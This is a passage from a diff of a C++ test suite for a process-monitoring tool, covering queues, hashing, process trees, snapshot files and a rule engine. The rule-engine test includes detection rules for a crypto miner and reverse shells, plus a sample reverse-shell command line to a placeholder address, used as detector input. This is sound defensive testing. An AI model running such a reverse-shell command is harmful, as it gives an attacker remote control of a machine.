@@ -3,13 +3,111 @@
 #include <vector>
 #include <chrono>
 #include <atomic>
+#include <algorithm>
+#include <fstream>
+#include <cstdlib>
 #include "ThreadSafeQueue.h"
+#include "BoundedQueue.h"
 #include "ProcessInfo.h"
 #include "SecurityUtils.h"
+#include "HashCache.h"
+#include "ProcessSnapshotDiffer.h"
+#include "ProcessTable.h"
+#include "ProcessTree.h"
+#include "ProcessEventSource.h"
+#include "RuleEngine.h"
+#include "ProcessOwner.h"
+#include "SnapshotFile.h"
+#include "HistoryStore.h"
+#include "ProcessQuery.h"
+#include "RefreshScheduler.h"
+#include "IntegrityManifest.h"
+#include "FdInventory.h"
+#include "SecureLog.h"
+#include "Metrics.h"
+#include "JsonWriter.h"
+#ifndef _WIN32
+#include "ProcessSampler.h"
+#endif
+#include "Sha256.h"
+#include "NetworkServer.h"
+#include "ProcessJson.h"
+#include "ProcessBinary.h"
 
 #ifndef NOMINMAX
 #define NOMINMAX
 #endif
+#ifndef _WIN32
+#include <unistd.h>
+#include <sys/stat.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+#include <csignal>
+#include <sys/wait.h>
+#endif
+#ifdef __linux__
+#include <cstring>
+#include <linux/netlink.h>
+#include <linux/connector.h>
+#include <linux/cn_proc.h>
+#endif
+
+// Число нарушенных проверок; main возвращает 1, если оно не ноль (ctest видит падение)
+static std::atomic<int> failures{0}; //CHECK вызывается и из рабочих потоков (test_hash_cache)
+
+// Проверка теста: при нарушении - условие и место в выводе, тест продолжается
+#define CHECK(condition)                                                                         \
+    do {                                                                                         \
+        if (!(condition)) {                                                                      \
+            ++failures;                                                                          \
+            std::cout << "CHECK FAILED: " #condition " (" __FILE__ ":" << __LINE__ << ")" << std::endl; \
+        }                                                                                        \
+    } while (0)
+
+// Временные файлы тестов живут в отдельном каталоге, а не в текущем
+static std::string testDirectory;
+
+static std::string tempPath(const std::string& name) {
+    if (testDirectory.empty()) {
+#ifdef _WIN32
+        char base[MAX_PATH];
+        DWORD length = GetTempPathA(MAX_PATH, base);
+        testDirectory = std::string(base, length) + "process_monitor_test_" + std::to_string(GetCurrentProcessId());
+        CreateDirectoryA(testDirectory.c_str(), NULL);
+#else
+        const char* base = std::getenv("TMPDIR");
+        std::string pattern = std::string(base && *base ? base : "/tmp") + "/process_monitor_test_XXXXXX";
+        testDirectory = mkdtemp(&pattern[0]) ? pattern : std::string(".");
+#endif
+    }
+    return testDirectory + "/" + name;
+}
+
+static void removeTestDirectory() {
+    if (testDirectory.empty() || testDirectory == ".") {
+        return;
+    }
+#ifdef _WIN32
+    RemoveDirectoryA(testDirectory.c_str());
+#else
+    rmdir(testDirectory.c_str());
+#endif
+}
+
+// Путь к текущему исполняемому файлу
+static std::string currentExecutablePath() {
+#ifdef _WIN32
+    char exePath[MAX_PATH];
+    GetModuleFileNameA(NULL, exePath, MAX_PATH);
+    return exePath;
+#else
+    char exePath[4096];
+    ssize_t length = readlink("/proc/self/exe", exePath, sizeof(exePath));
+    return length > 0 ? std::string(exePath, static_cast<size_t>(length)) : std::string();
+#endif
+}
 
 //Тест с простыми типами данных
 void test_basic_types() {
@@ -124,6 +222,62 @@ void test_wait_and_pop_multithreaded() {
     std::cout << "Total tasks processed: " << consumed.size() << std::endl;
 }   
 
+// Тест ограниченной lock-free очереди: несколько производителей/потребителей, пакеты, close()
+void test_bounded_queue() {
+    std::cout << "\n=== Testing BoundedQueue (MPMC ring) ===" << std::endl;
+
+    BoundedQueue<int> queue(64);
+    std::cout << "Capacity: " << queue.capacity() << std::endl;
+    CHECK(queue.capacity() == 64);
+
+    //Пакетные операции и переполнение
+    std::vector<int> batch(100);
+    for (int i = 0; i < 100; ++i) batch[i] = i;
+    size_t pushed = queue.try_push_n(batch.begin(), batch.size());
+    std::vector<int> out(100);
+    size_t popped = queue.try_pop_n(out.begin(), out.size());
+    CHECK(pushed == 64 && popped == 64);
+    bool ordered = true;
+    for (size_t i = 0; i < popped; ++i) {
+        ordered = ordered && out[i] == static_cast<int>(i);
+    }
+    CHECK(ordered);
+
+    //4 производителя x 4 потребителя, сумма должна сойтись
+    const int producers = 4, consumers = 4, perProducer = 20000;
+    std::atomic<long long> sum{0};
+    std::atomic<int> received{0};
+    std::vector<std::thread> threads;
+    for (int c = 0; c < consumers; ++c) {
+        threads.emplace_back([&queue, &sum, &received]() {
+            int value;
+            while (queue.pop(value)) {
+                sum += value;
+                ++received;
+            }
+        });
+    }
+    std::vector<std::thread> producerThreads;
+    for (int p = 0; p < producers; ++p) {
+        producerThreads.emplace_back([&queue]() {
+            for (int i = 1; i <= perProducer; ++i) {
+                queue.push(i);
+            }
+        });
+    }
+    for (auto& thread : producerThreads) thread.join();
+    //close() будит заснувших потребителей, они дочитывают остаток и выходят
+    queue.close();
+    for (auto& thread : threads) thread.join();
+
+    long long expected = static_cast<long long>(producers) * perProducer * (perProducer + 1) / 2;
+    std::cout << "Received: " << received << ", sum matches: " << std::boolalpha << (sum == expected) << std::endl;
+    CHECK(received == producers * perProducer && sum == expected);
+    bool rejected = !queue.try_push(1);
+    std::cout << "Push after close rejected: " << rejected << std::endl;
+    CHECK(rejected);
+}
+
 // Тестирование SecurityUtils
 void test_security_utils() {
     std::cout << "\n=== Testing Security Utils ===" << std::endl;
@@ -135,11 +289,12 @@ void test_security_utils() {
     
     // 2. Вычисление хеша текущего исполняемого файла
     std::cout << "2. File hash calculation:" << std::endl;
-    char exePath[MAX_PATH];
-    GetModuleFileNameA(NULL, exePath, MAX_PATH);
+    std::string exePath = currentExecutablePath();
     std::cout << "   File: " << exePath << std::endl;
     
+    SecurityUtils::enableHashCache(tempPath("test_hash_cache.bin"));
     std::string hash = SecurityUtils::calculateFileHash(exePath);
+    CHECK(hash.size() == 64);
     if (!hash.empty()) {
         std::cout << "   SHA-256 Hash: " << hash.substr(0, 32) << "..." << std::endl;
         std::cout << "   Hash length: " << hash.length() << " characters" << std::endl;
@@ -149,11 +304,19 @@ void test_security_utils() {
     
     // 3. Проверка системных файлов
     std::cout << "3. System file hashes:" << std::endl;
+#ifdef _WIN32
     const char* systemFiles[] = {
         "C:\\Windows\\System32\\notepad.exe",
         "C:\\Windows\\System32\\calc.exe",
         "C:\\Windows\\explorer.exe"
     };
+#else
+    const char* systemFiles[] = {
+        "/bin/sh",
+        "/bin/ls",
+        "/usr/bin/env"
+    };
+#endif
     
     for (const char* file : systemFiles) {
         std::string fileHash = SecurityUtils::calculateFileHash(file);
@@ -178,13 +341,1908 @@ void test_security_utils() {
     }
 }
 
+// Тест HashCache: повторный запрос попадает в кеш, изменение файла его инвалидирует
+void test_hash_cache() {
+    std::cout << "\n=== Testing HashCache ===" << std::endl;
+    std::string path = tempPath("test_hash_cache_direct.bin");
+    std::remove(path.c_str());
+
+    FileIdentity identity;
+    identity.device = 1;
+    identity.inode = 42;
+    identity.size = 1000;
+    identity.mtimeNs = 1600000000ULL * 1000000000ULL; //давно измененный файл - isStable
+    identity.ctimeNs = identity.mtimeNs;
+    unsigned char digest[HashCache::DIGEST_SIZE];
+    for (size_t i = 0; i < sizeof(digest); ++i) {
+        digest[i] = static_cast<unsigned char>(i * 7 + 1);
+    }
+
+    {
+        HashCache cache;
+        CHECK(cache.open(path, 256));
+        unsigned char found[HashCache::DIGEST_SIZE] = {};
+        CHECK(!cache.lookup(identity, found));
+        cache.store(identity, digest);
+        CHECK(cache.lookup(identity, found));
+        CHECK(std::equal(found, found + sizeof(found), digest));
+
+        FileIdentity touched = identity;
+        touched.mtimeNs += 1;
+        CHECK(!cache.lookup(touched, found));
+        FileIdentity resized = identity;
+        resized.size += 1;
+        CHECK(!cache.lookup(resized, found));
+
+        //Только что измененный файл не кешируется
+        FileIdentity fresh = identity;
+        fresh.inode = 43;
+        fresh.mtimeNs = static_cast<uint64_t>(std::chrono::duration_cast<std::chrono::nanoseconds>(
+            std::chrono::system_clock::now().time_since_epoch()).count());
+        fresh.ctimeNs = fresh.mtimeNs;
+        cache.store(fresh, digest);
+        CHECK(!cache.lookup(fresh, found));
+
+        CHECK(cache.hits() == 1);
+        CHECK(cache.misses() == 4);
+
+        //Счетчики читаются параллельно с поиском
+        std::atomic<bool> done(false);
+        std::thread reader([&]() {
+            size_t last = 0;
+            while (!done.load()) {
+                size_t now = cache.hits();
+                CHECK(now >= last);
+                last = now;
+            }
+        });
+        std::vector<std::thread> workers;
+        for (int t = 0; t < 4; ++t) {
+            workers.emplace_back([&]() {
+                unsigned char local[HashCache::DIGEST_SIZE];
+                for (int i = 0; i < 1000; ++i) {
+                    cache.lookup(identity, local);
+                }
+            });
+        }
+        for (auto& worker : workers) {
+            worker.join();
+        }
+        done = true;
+        reader.join();
+        CHECK(cache.hits() == 4001);
+    }
+
+    //Запись переживает переоткрытие файла
+    HashCache reopened;
+    CHECK(reopened.open(path, 256));
+    unsigned char found[HashCache::DIGEST_SIZE] = {};
+    CHECK(reopened.lookup(identity, found));
+    CHECK(std::equal(found, found + sizeof(found), digest));
+    CHECK(reopened.hits() == 1 && reopened.misses() == 0);
+    reopened.close();
+    std::remove(path.c_str());
+}
+
+// Тест SHA-256 на известных векторах для всех доступных ядер
+void test_sha256_kernels() {
+    std::cout << "\n=== Testing SHA-256 kernels ===" << std::endl;
+
+    const std::string abc = "abc";
+    const std::string expected = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
+    std::string longMessage(100000, 'x');
+
+    Sha256::Kernel original = Sha256::activeKernel();
+    for (auto kernel : {Sha256::Kernel::Scalar, Sha256::Kernel::ShaNi, Sha256::Kernel::Avx2}) {
+        if (!Sha256::isSupported(kernel)) {
+            std::cout << Sha256::kernelName(kernel) << ": not supported" << std::endl;
+            continue;
+        }
+        Sha256::setKernel(kernel);
+
+        unsigned char digest[Sha256::DIGEST_SIZE];
+        Sha256::hash(abc.data(), abc.size(), digest);
+        bool single = Sha256::toHex(digest, sizeof(digest)) == expected;
+
+        //Многобуферный путь должен совпадать с одиночным для сообщений разной длины
+        const unsigned char* data[3] = {
+            reinterpret_cast<const unsigned char*>(abc.data()),
+            reinterpret_cast<const unsigned char*>(longMessage.data()),
+            reinterpret_cast<const unsigned char*>(longMessage.data())
+        };
+        size_t sizes[3] = {abc.size(), longMessage.size(), 64};
+        unsigned char many[3][Sha256::DIGEST_SIZE];
+        Sha256::hashMany(data, sizes, 3, many);
+        bool batch = true;
+        for (int i = 0; i < 3; ++i) {
+            Sha256::hash(data[i], sizes[i], digest);
+            batch = batch && std::equal(digest, digest + sizeof(digest), many[i]);
+        }
+        std::cout << Sha256::kernelName(kernel) << ": known vector " << (single ? "OK" : "FAILED")
+                  << ", multi-buffer " << (batch ? "OK" : "FAILED") << std::endl;
+        CHECK(single);
+        CHECK(batch);
+    }
+    Sha256::setKernel(original);
+
+    //Пакетное хеширование файлов совпадает с одиночным
+    std::string exePath = currentExecutablePath();
+    auto hashes = SecurityUtils::hashFiles({exePath, exePath, "/nonexistent/file"}, 2);
+    bool matches = !hashes[0].empty() && hashes[0] == SecurityUtils::calculateFileHash(exePath) && hashes[0] == hashes[1];
+    std::cout << "hashFiles matches calculateFileHash: " << std::boolalpha << matches
+              << ", missing file empty: " << hashes[2].empty() << std::endl;
+    CHECK(matches);
+    CHECK(hashes[2].empty());
+    //Ошибка чтения уходит в журнал безопасности, а не в stderr
+    SecurityUtils::securityLog().flush();
+    std::string journal;
+    {
+        std::ifstream in(tempPath("security.log"), std::ios::binary);
+        journal.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
+    }
+    CHECK(journal.find("hash: cannot open file: /nonexistent/file") != std::string::npos);
+}
+
+// Тест инкрементального diff снимков
+void test_snapshot_differ() {
+    std::cout << "\n=== Testing ProcessSnapshotDiffer ===" << std::endl;
+
+    ProcessSnapshotDiffer differ;
+    auto scan = [&differ](const std::vector<ProcessRecord>& records) -> const std::vector<ProcessChange>& {
+        differ.begin();
+        for (const auto& record : records) {
+            differ.observe(record);
+        }
+        return differ.finish();
+    };
+
+    ProcessRecord init{1, 0, 100, "init", "/sbin/init"};
+    ProcessRecord shell{200, 1, 500, "bash", "/bin/bash"};
+
+    const auto& first = scan({init, shell});
+    CHECK(first.size() == 2);
+    auto shellInfo = differ.find(ProcessKey{200, 500});
+
+    const auto& steady = scan({init, shell});
+    CHECK(steady.empty());
+    std::cout << "Entry reused: " << std::boolalpha << (differ.find(ProcessKey{200, 500}) == shellInfo) << std::endl;
+    CHECK(shellInfo != nullptr && differ.find(ProcessKey{200, 500}) == shellInfo);
+
+    //exec в том же процессе и переиспользование PID новым процессом
+    ProcessRecord execed{200, 1, 500, "python3", "/usr/bin/python3"};
+    ProcessRecord reused{1, 0, 900, "init", "/sbin/init"};
+    const auto& churn = scan({reused, execed});
+    int spawned = 0, exited = 0, changed = 0;
+    for (const auto& change : churn) {
+        if (change.type == ProcessChange::Type::Spawned) ++spawned;
+        if (change.type == ProcessChange::Type::Exited) ++exited;
+        if (change.type == ProcessChange::Type::Changed) ++changed;
+    }
+    CHECK(spawned == 1 && exited == 1 && changed == 1);
+}
+// Тест колоночной таблицы процессов
+void test_process_table() {
+    std::cout << "\n=== Testing ProcessTable ===" << std::endl;
+
+    ProcessTable table;
+    for (int scan = 0; scan < 2; ++scan) {
+        table.clear();
+        table.append(ProcessRecord{1, 0, 100, "init", "/sbin/init"});
+        table.append(ProcessRecord{10, 1, 200, "worker", "/usr/bin/worker"});
+        table.append(ProcessRecord{11, 1, 201, "worker", "/usr/bin/worker"});
+        table.finishScan();
+    }
+
+    //Одинаковые имена/пути - один handle: "" и 4 уникальных строки
+    CHECK(table.size() == 3 && table.strings().size() == 5);
+    std::cout << "Shared name handle: " << std::boolalpha
+              << (table.nameIds()[1] == table.nameIds()[2]) << std::endl;
+    CHECK(table.nameIds()[1] == table.nameIds()[2] && table.pathIds()[1] == table.pathIds()[2]);
+
+    size_t row = table.findRow(11);
+    ProcessView view = table[row];
+    std::cout << "Row for PID 11: " << view.getName() << " (" << view.getPath()
+              << "), parent " << view.getParentPid() << std::endl;
+    CHECK(row < table.size() && view.getPid() == 11 && view.getName() == "worker" &&
+          view.getPath() == "/usr/bin/worker" && view.getParentPid() == 1 && view.getStartTime() == 201);
+    CHECK(table.findRow(12) >= table.size());
+    std::cout << "Compatibility copy: " << table.toProcessInfos().size() << " ProcessInfo objects" << std::endl;
+    CHECK(table.toProcessInfos().size() == 3);
+}
+
+// Тест дерева процессов: поддеревья, предки, сироты, переиспользованный PID и цикл
+void test_process_tree() {
+    std::cout << "\n=== Testing ProcessTree ===" << std::endl;
+
+    ProcessTable table;
+    table.append(ProcessRecord{1, 0, 100, "init", "/sbin/init"});
+    table.append(ProcessRecord{50, 1, 200, "sshd", "/usr/sbin/sshd"});
+    table.append(ProcessRecord{60, 50, 300, "bash", "/bin/bash"});
+    table.append(ProcessRecord{70, 60, 400, "curl", "/usr/bin/curl"});
+    table.append(ProcessRecord{71, 60, 410, "sh", "/bin/sh"});
+    table.append(ProcessRecord{80, 999, 500, "orphan", "/tmp/orphan"});  //родителя нет в снимке
+    table.append(ProcessRecord{90, 95, 150, "old", "/usr/bin/old"});     //родитель моложе: PID переиспользован
+    table.append(ProcessRecord{95, 1, 600, "new", "/usr/bin/new"});
+    table.finishScan();
+
+    ProcessTree tree;
+    tree.build(table);
+    std::vector<DWORD> pids;
+    for (ProcessTree::Row row : tree.roots()) {
+        pids.push_back(tree.pid(row));
+    }
+    std::sort(pids.begin(), pids.end());
+    CHECK(pids == std::vector<DWORD>({1, 80, 90}));
+
+    pids.clear();
+    for (ProcessTree::Row row : tree.subtree(tree.findRow(60))) {
+        pids.push_back(tree.pid(row));
+    }
+    CHECK(pids == std::vector<DWORD>({60, 70, 71}));
+
+    std::vector<ProcessTree::Row> chain;
+    tree.ancestors(tree.findRow(71), chain);
+    pids.clear();
+    for (ProcessTree::Row row : chain) {
+        pids.push_back(tree.pid(row));
+    }
+    CHECK(pids == std::vector<DWORD>({60, 50, 1}) && tree.depth(tree.findRow(71)) == 3);
+    CHECK(tree.contains(tree.findRow(50), tree.findRow(70)) && !tree.contains(tree.findRow(70), tree.findRow(50)));
+    CHECK(tree.children(tree.findRow(1)).size() == 2 && tree.findRow(12345) == tree.size());
+    std::cout << "sshd contains curl: " << std::boolalpha << tree.contains(tree.findRow(50), tree.findRow(70))
+              << ", curl contains sshd: " << tree.contains(tree.findRow(70), tree.findRow(50)) << std::endl;
+
+    //Без времени старта PID 1 <-> 2 образуют цикл - он разрывается
+    tree.build({1, 2, 3}, {2, 1, 2});
+    CHECK(tree.roots().size() == 1 && tree.subtree(tree.roots()[0]).size() == 3);
+}
+
+// Тест правил: пересекающиеся шаблоны, регистр, поля, снимок и горячая перезагрузка
+void test_rule_engine() {
+    std::cout << "\n=== Testing RuleEngine ===" << std::endl;
+
+    //Классический пример Ахо-Корасик: в "ushers" находятся she, he и hers
+    auto rules = RuleSet::compile("any r-he he\nany r-she she\nany r-his his\nany r-hers hers\n");
+    std::vector<uint32_t> found;
+    rules->match(RuleField::Name, "USHERS", found);
+    std::sort(found.begin(), found.end());
+    std::string labels;
+    for (uint32_t id : found) {
+        labels += " " + rules->rule(id).label;
+    }
+    CHECK(labels == " r-he r-she r-hers");
+
+    rules = RuleSet::compile(
+        "# комментарий\n"
+        "name miner xmrig\n"
+        "path tmp-exec /tmp/\n"
+        "cmdline revshell /dev/tcp/\n");
+    CHECK(!rules->matchesAny(RuleField::Name, "/tmp/x") && rules->matchesAny(RuleField::Path, "/tmp/x"));
+    bool badRejected = RuleSet::compile("proc miner xmrig\n") == nullptr;
+    std::cout << "Bad rule file rejected: " << badRejected << std::endl;
+    CHECK(badRejected);
+
+    ProcessTable table;
+    table.append(ProcessRecord{1, 0, 100, "init", "/sbin/init"});
+    table.append(ProcessRecord{20, 1, 200, "XMRig", "/tmp/xmrig"});
+    table.append(ProcessRecord{21, 1, 201, "XMRig", "/tmp/xmrig"});
+    table.append(ProcessRecord{30, 1, 300, "bash", "/bin/bash"});
+    table.finishScan();
+    std::vector<std::string> cmdlines = {"/sbin/init", "xmrig -o pool", "xmrig -o pool", "bash -i >& /dev/tcp/10.0.0.1/4444"};
+    std::vector<RuleMatch> matches;
+    rules->evaluate(table, matches, &cmdlines);
+    std::string snapshotMatches;
+    for (const RuleMatch& match : matches) {
+        snapshotMatches += " " + std::to_string(table.pids()[match.row]) + ":" + rules->rule(match.rule).label;
+    }
+    CHECK(snapshotMatches == " 20:miner 20:tmp-exec 21:miner 21:tmp-exec 30:revshell");
+
+    CHECK(SecurityUtils::isSuspiciousProcess("mimikatz.exe") && !SecurityUtils::isSuspiciousProcess("bash"));
+
+    //Горячая перезагрузка: новый файл применяется, файл с ошибкой - нет
+    const std::string rulesFile = tempPath("test_rules.txt");
+    std::ofstream(rulesFile) << "name editor vim\n";
+    RuleEngine engine;
+    engine.load(rulesFile);
+    bool before = engine.rules()->matchesAny(RuleField::Name, "nano");
+    std::this_thread::sleep_for(std::chrono::milliseconds(20)); //mtime должен отличаться
+    std::ofstream(rulesFile) << "name editor vim\nname editor nano\n";
+    bool reloaded = engine.reloadIfChanged();
+    bool after = engine.rules()->matchesAny(RuleField::Name, "nano");
+    std::ofstream(rulesFile) << "name broken\n";
+    bool brokenApplied = engine.reloadIfChanged();
+    CHECK(!before && reloaded && after && !brokenApplied && engine.rules()->size() == 2);
+    std::remove(rulesFile.c_str());
+}
+
+// Тест владельцев: классификация uid, фильтры снимка и неблокирующий кеш имен
+void test_process_owner() {
+    std::cout << "\n=== Testing ProcessOwner ===" << std::endl;
+
+    uint32_t firstUser = ProcessOwner::firstUserUid();
+    CHECK(ProcessOwner::isSystemUid(0) && ProcessOwner::isSystemUid(65534) && !ProcessOwner::isSystemUid(firstUser));
+
+    ProcessTable table;
+    ProcessRecord record{1, 0, 100, "init", "/sbin/init"};
+    record.uid = 0;
+    table.append(record);
+    record = ProcessRecord{200, 1, 200, "bash", "/bin/bash"};
+    record.uid = firstUser;
+    table.append(record);
+    table.append(ProcessRecord{300, 1, 300, "gone", ""}); //владелец неизвестен
+    table.finishScan();
+    JsonStringCache strings;
+    JsonWriter writer;
+    ProcessJson::writeProcesses(writer, table, 0, strings, ProcessFilter::System);
+    std::string system(writer.view());
+    writer.clear();
+    ProcessJson::writeProcesses(writer, table, 0, strings, ProcessFilter::User);
+    std::string user(writer.view());
+    std::cout << "System filter: " << system << std::endl;
+    std::cout << "User filter: " << user << std::endl;
+    //Процесс с неизвестным владельцем не попадает ни в один фильтр
+    CHECK(system == "{\"status\":\"success\",\"processes\":[{\"pid\":1,\"name\":\"init\",\"path\":\"/sbin/init\",\"parent_pid\":0}]}");
+    CHECK(user == "{\"status\":\"success\",\"processes\":[{\"pid\":200,\"name\":\"bash\",\"path\":\"/bin/bash\",\"parent_pid\":1}]}");
+
+    //Медленный NSS (LDAP/sssd): lookup отвечает сразу числом, имя приходит в фоне
+    UserNameCache cache;
+    std::atomic<int> calls{0};
+    cache.setResolver([&](UserNameCache::Kind, uint32_t id, std::string& name) {
+        ++calls;
+        std::this_thread::sleep_for(std::chrono::milliseconds(100));
+        name = "user" + std::to_string(id) + (calls > 1 ? "-renamed" : "");
+        return true;
+    });
+    std::string name;
+    auto start = std::chrono::steady_clock::now();
+    bool resolved = cache.lookup(UserNameCache::Kind::User, 1000, name);
+    double lookupMs = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start).count();
+    //Резолвер спит 100 мс: более быстрый ответ значит, что lookup его не ждал
+    CHECK(!resolved && name == "1000" && lookupMs < 100);
+    resolved = cache.resolve(UserNameCache::Kind::User, 1000, name, std::chrono::seconds(2));
+    std::cout << "Resolved: " << resolved << " '" << name << "'" << std::endl;
+    CHECK(resolved && name == "user1000");
+
+    //Новое поколение: старое имя отдается сразу, обновление идет в фоне
+    cache.invalidate();
+    start = std::chrono::steady_clock::now();
+    resolved = cache.lookup(UserNameCache::Kind::User, 1000, name);
+    lookupMs = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start).count();
+    std::cout << "Stale lookup: " << resolved << " '" << name << "' in " << (lookupMs < 50 ? "<50" : std::to_string(lookupMs))
+              << " ms" << std::endl;
+    CHECK(resolved && name == "user1000" && lookupMs < 100);
+    cache.resolve(UserNameCache::Kind::User, 1000, name, std::chrono::seconds(2));
+    CHECK(name == "user1000-renamed" && calls.load() == 2);
+
+#ifndef _WIN32
+    std::cout << "isSystemProcess(1): " << SecurityUtils::isSystemProcess(1)
+              << ", owner of self: " << SecurityUtils::getProcessOwner(static_cast<DWORD>(getpid())) << std::endl;
+    CHECK(SecurityUtils::isSystemProcess(1) && !SecurityUtils::getProcessOwner(static_cast<DWORD>(getpid())).empty());
+#endif
+}
+
+// Поколение синтетической нагрузки для записи: каждое поколение часть процессов
+// завершается, запускаются новые, PID переиспользуются, меняются имена и владельцы
+static void fillChurnTable(ProcessTable& table, int generation) {
+    table.clear();
+    for (int i = 0; i < 50; ++i) {
+        if ((i + generation) % 7 == 0) {
+            continue; //завершился в этом поколении
+        }
+        ProcessRecord record;
+        record.pid = static_cast<DWORD>(100 + i);
+        record.parentPid = i == 0 ? 0 : 100;
+        record.startTime = static_cast<uint64_t>(1000 + i + (i % 5 == 0 ? generation : 0)); //PID переиспользован
+        std::string name = "proc" + std::to_string(i % 9) + (generation % 3 == 0 && i == 3 ? "-exec" : "");
+        std::string path = "/usr/bin/" + name;
+        record.name = name;
+        record.path = path;
+        record.uid = i % 4 == 0 ? ProcessRecord::UNKNOWN_UID : static_cast<uint32_t>(i % 2 == 0 ? 0 : 1000 + generation % 2);
+        table.append(record);
+    }
+    table.finishScan();
+}
+
+static bool sameTables(const ProcessTable& a, const ProcessTable& b) {
+    if (a.size() != b.size()) {
+        return false;
+    }
+    for (size_t row = 0; row < a.size(); ++row) {
+        if (a.pids()[row] != b.pids()[row] || a.parentPids()[row] != b.parentPids()[row] ||
+            a.startTimes()[row] != b.startTimes()[row] || a.uids()[row] != b.uids()[row] ||
+            a[row].getName() != b[row].getName() || a[row].getPath() != b[row].getPath()) {
+            return false;
+        }
+    }
+    return true;
+}
+
+// Тест записи снимков: каждое поколение восстанавливается точно, поиск, прерванная запись
+void test_snapshot_file() {
+    std::cout << "\n=== Testing SnapshotFile ===" << std::endl;
+
+    const std::string file = tempPath("test_snapshots.pms");
+    const int generations = 20;
+    SnapshotRecorder recorder;
+    recorder.setKeyframeInterval(6);
+    ProcessTable table;
+    bool recording = recorder.open(file);
+    CHECK(recording);
+    if (!recording) {
+        return;
+    }
+    for (int generation = 0; generation < generations; ++generation) {
+        fillChurnTable(table, generation);
+        recorder.record(table, 1000000000ull * static_cast<uint64_t>(generation + 1));
+    }
+    uint64_t withoutIndex = recorder.bytesWritten();
+    recorder.close();
+
+    SnapshotReader reader;
+    bool opened = reader.open(file);
+    ProcessTable replayed;
+    bool sequential = opened && reader.generations() == static_cast<size_t>(generations);
+    for (int generation = 0; sequential && generation < generations; ++generation) {
+        fillChurnTable(table, generation);
+        sequential = reader.next() && (reader.fill(replayed), sameTables(table, replayed));
+    }
+    std::cout << "Generations: " << reader.generations() << ", indexed " << std::boolalpha << reader.indexed()
+              << ", all equal sequentially: " << sequential << ", bytes " << reader.fileSize() << std::endl;
+    CHECK(opened && reader.indexed() && sequential);
+
+    //Произвольный доступ: назад, вперед через кадр, по времени
+    bool seeks = true;
+    for (int generation : {17, 3, 4, 12, 0, 19}) {
+        fillChurnTable(table, generation);
+        seeks = seeks && reader.seek(static_cast<size_t>(generation)) && (reader.fill(replayed), sameTables(table, replayed));
+    }
+    fillChurnTable(table, 8);
+    seeks = seeks && reader.seekTime(9500000000ull) && reader.position() == 8 && (reader.fill(replayed), sameTables(table, replayed));
+    std::cout << "Random seeks equal: " << seeks << std::endl;
+    CHECK(seeks);
+
+    //Повтор по кругу для SnapshotCache::setSource
+    reader.seek(static_cast<size_t>(generations - 1));
+    reader.replayInto(replayed);
+    CHECK(reader.generation() == 1);
+    reader.close();
+
+    //Прерванная запись: без индекса и с оборванной последней записью
+    {
+        std::ifstream in(file, std::ios::binary);
+        std::string content((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+        std::ofstream(file, std::ios::binary | std::ios::trunc).write(content.data(), static_cast<std::streamsize>(withoutIndex - 3));
+    }
+    bool recovered = reader.open(file) && !reader.indexed() && reader.generations() == static_cast<size_t>(generations - 1);
+    fillChurnTable(table, generations - 2);
+    recovered = recovered && reader.seek(static_cast<size_t>(generations - 2)) && (reader.fill(replayed), sameTables(table, replayed));
+    std::cout << "Interrupted recording: " << reader.generations() << " generations recovered, last equal: " << recovered << std::endl;
+    CHECK(recovered);
+    reader.close();
+
+    //Поврежденный индекс: сумма смещений переполняется - индекс отвергается, записи сканируются заново
+    auto varint = [](std::string& out, uint64_t value) {
+        for (; value >= 0x80; value >>= 7) {
+            out += static_cast<char>((value & 0x7F) | 0x80);
+        }
+        out += static_cast<char>(value);
+    };
+    //Файл: магия, пустая запись STRINGS (смещение 8), INDEX с телом body (смещение 15), хвост
+    auto writeIndexOnly = [&](const std::string& body) {
+        std::string content("PMSNAP01", 8);
+        content.append("\x02\x00\x00\x00\x01\x01\x00", 7);
+        uint32_t length = static_cast<uint32_t>(body.size());
+        for (int i = 0; i < 4; ++i) {
+            content += static_cast<char>((length >> (8 * i)) & 0xFF);
+        }
+        content += static_cast<char>(4);
+        content += body;
+        for (int i = 0; i < 8; ++i) {
+            content += static_cast<char>(i == 0 ? 15 : 0);
+        }
+        content.append("PMSIDX01", 8);
+        std::ofstream(file, std::ios::binary | std::ios::trunc).write(content.data(), static_cast<std::streamsize>(content.size()));
+    };
+    std::string wrappedRecords;
+    varint(wrappedRecords, 2);
+    varint(wrappedRecords, 8);
+    varint(wrappedRecords, 0);
+    wrappedRecords += '\1';
+    varint(wrappedRecords, UINT64_MAX - 10); //8 + delta = 2^64 - 3
+    varint(wrappedRecords, 0);
+    wrappedRecords += '\0';
+    varint(wrappedRecords, 0);
+    std::string wrappedStrings;
+    varint(wrappedStrings, 0);
+    varint(wrappedStrings, 2);
+    varint(wrappedStrings, 8);
+    varint(wrappedStrings, UINT64_MAX - 4);
+    for (const std::string& body : {wrappedRecords, wrappedStrings}) {
+        writeIndexOnly(body);
+        bool rejected = reader.open(file) && !reader.indexed() && reader.generations() == 0;
+        CHECK(rejected);
+        reader.close();
+    }
+    std::remove(file.c_str());
+}
+
+// Тест истории: свертка по уровням, выбор уровня по диапазону, вытеснение завершившихся, бюджет
+void test_history_store() {
+    std::cout << "\n=== Testing HistoryStore ===" << std::endl;
+
+    //Кодирование скоростей: точно до 2047, дальше - ошибка меньше 0.1%
+    double worstError = 0;
+    for (double rate : {1.0, 2047.0, 2048.0, 12345.0, 1e6, 123456789.0, 3.3e12}) {
+        double decoded = HistoryStore::decodeRate(HistoryStore::encodeRate(rate));
+        worstError = std::max(worstError, std::abs(decoded - rate) / rate);
+    }
+    std::cout << "Rate encoding worst error " << std::boolalpha << (worstError < 0.001) << ", 0 -> "
+              << HistoryStore::decodeRate(HistoryStore::encodeRate(0)) << std::endl;
+    CHECK(worstError < 0.001 && HistoryStore::decodeRate(HistoryStore::encodeRate(0)) == 0);
+    CHECK(HistoryStore::decodeRate(HistoryStore::encodeRate(2047)) == 2047);
+
+    HistoryStore history;
+    history.setRetention(600);
+    const uint32_t start = 1700000400; //кратно 600 - интервалы уровней совпадают с началом
+    const uint32_t duration = 3 * 3600;
+    std::vector<HistoryInput> inputs(2);
+    for (uint32_t t = 0; t < duration; ++t) {
+        //PID 10: CPU 10% в четные минуты и 30% в нечетные, RSS растет
+        inputs[0].pid = 10;
